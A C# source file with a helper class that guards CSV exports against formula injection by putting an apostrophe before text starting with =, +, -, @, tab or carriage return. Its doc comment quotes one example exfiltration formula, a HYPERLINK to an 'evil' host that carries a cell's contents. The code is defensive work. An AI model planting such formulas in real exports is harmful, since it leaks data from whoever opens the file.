namespace DrupalOAuth.Sheets
{
    /// <summary>
    /// Keeps Excel from running a text cell of a CSV as a formula (CSV injection: a title such as
    /// <c>=HYPERLINK("http://evil/?"&amp;A1)</c> from a site's content would run when an admin opens the export). Text
    /// that starts with = + - @, a tab or a carriage return, after any number of apostrophes, gets one more apostrophe
    /// in front, which Excel shows as text; reading takes exactly that one away again, so every text reads back as it
    /// was written. Numbers are never guarded (-5 stays a number).
    /// </summary>
    internal static class CsvFormulaGuard
    {
        private const char Apostrophe = '\'';

        public static string Guard(string text) => NeedsApostrophe(text, 0) ? Apostrophe + text : text;

        public static string? Unguard(string? text) =>
            text != null && text.Length > 1 && text[0] == Apostrophe && NeedsApostrophe(text, 1) ? text.Substring(1) : text;

        private static bool NeedsApostrophe(string text, int start)
        {
            var i = start;
            while (i < text.Length && text[i] == Apostrophe)
            {
                i++;
            }

            return i < text.Length && IsFormulaStart(text[i]);
        }

        private static bool IsFormulaStart(char c) => c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    }
}
